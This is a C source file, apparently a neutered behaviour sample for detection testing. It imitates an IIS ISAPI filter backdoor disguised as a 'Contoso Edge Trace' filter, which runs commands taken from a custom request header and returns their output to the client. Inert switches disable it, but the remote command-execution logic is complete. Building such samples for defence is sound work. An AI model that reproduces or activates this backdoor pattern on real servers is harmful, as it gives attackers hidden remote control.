/*
 * Behaviour sample 1 (x64 ISAPI filter): header command execution.
 *
 * Imitates a filter backdoor that, on SF_NOTIFY_PREPROC_HEADERS, reads a
 * command from a custom request header through the filter context's
 * GetHeader callback, runs it with CreateProcessA (output through an
 * anonymous pipe) and answers through AddResponseHeaders / WriteClient.
 * Varies: no known header, product name "Contoso Edge Trace", no shell name.
 *
 * Inert: everything is behind `if (k_inert)` (volatile const 0); the
 * program is a path that does not exist; GetFilterVersion returns FALSE
 * (IIS refuses to load the filter) and HttpFilterProc returns
 * SF_STATUS_REQ_ERROR.
 */
#include "inert.h"
#include <httpfilt.h>

static const char k_trace_header[] = "X-Req-Trace-Ctx:";
static const char k_trace_reply[] = "X-Req-Trace-Ack: ";

static NOINLINE DWORD run_trace_command(HTTP_FILTER_CONTEXT *pfc, char *cmd)
{
    SECURITY_ATTRIBUTES sa = {sizeof(sa), NULL, TRUE};
    HANDLE rd = NULL, wr = NULL;
    STARTUPINFOA si;
    PROCESS_INFORMATION pi;
    char out[512];
    DWORD got = 0;

    ZeroMemory(&si, sizeof(si));
    ZeroMemory(&pi, sizeof(pi));
    si.cb = sizeof(si);
    if (!CreatePipe(&rd, &wr, &sa, 0))
        return 0;
    si.dwFlags = STARTF_USESTDHANDLES | STARTF_USESHOWWINDOW;
    si.hStdOutput = wr;
    si.hStdError = wr;
    si.wShowWindow = SW_HIDE;
    if (CreateProcessA(INERT_EXE, cmd, NULL, NULL, TRUE, CREATE_NO_WINDOW,
                       NULL, NULL, &si, &pi)) {
        WaitForSingleObject(pi.hProcess, 5000);
        CloseHandle(wr);
        wr = NULL;
        if (ReadFile(rd, out, sizeof(out) - 1, &got, NULL)) {
            out[got] = 0;
            pfc->AddResponseHeaders(pfc, (LPSTR)k_trace_reply, 0);
            pfc->WriteClient(pfc, out, &got, 0);
        }
        CloseHandle(pi.hThread);
        CloseHandle(pi.hProcess);
    }
    if (wr)
        CloseHandle(wr);
    CloseHandle(rd);
    return got;
}

static NOINLINE void on_preproc_headers(HTTP_FILTER_CONTEXT *pfc,
                                        HTTP_FILTER_PREPROC_HEADERS *hdrs)
{
    char cmd[1024];
    DWORD cb = sizeof(cmd);

    if (!hdrs->GetHeader(pfc, (LPSTR)k_trace_header, cmd, &cb) || cb < 2)
        return;
    run_trace_command(pfc, cmd);
}

BOOL WINAPI GetFilterVersion(HTTP_FILTER_VERSION *pVer)
{
    if (k_inert) {
        pVer->dwFilterVersion = HTTP_FILTER_REVISION;
        lstrcpynA(pVer->lpszFilterDesc, "Contoso Edge Trace Filter",
                  SF_MAX_FILTER_DESC_LEN);
        pVer->dwFlags = SF_NOTIFY_ORDER_HIGH | SF_NOTIFY_PREPROC_HEADERS;
        return TRUE;
    }
    return FALSE;
}

DWORD WINAPI HttpFilterProc(HTTP_FILTER_CONTEXT *pfc, DWORD notificationType,
                            LPVOID pvNotification)
{
    if (k_inert) {
        if (notificationType == SF_NOTIFY_PREPROC_HEADERS)
            on_preproc_headers(pfc, (HTTP_FILTER_PREPROC_HEADERS *)pvNotification);
        return SF_STATUS_REQ_NEXT_NOTIFICATION;
    }
    return SF_STATUS_REQ_ERROR;
}

BOOL WINAPI TerminateFilter(DWORD dwFlags)
{
    (void)dwFlags;
    return TRUE;
}
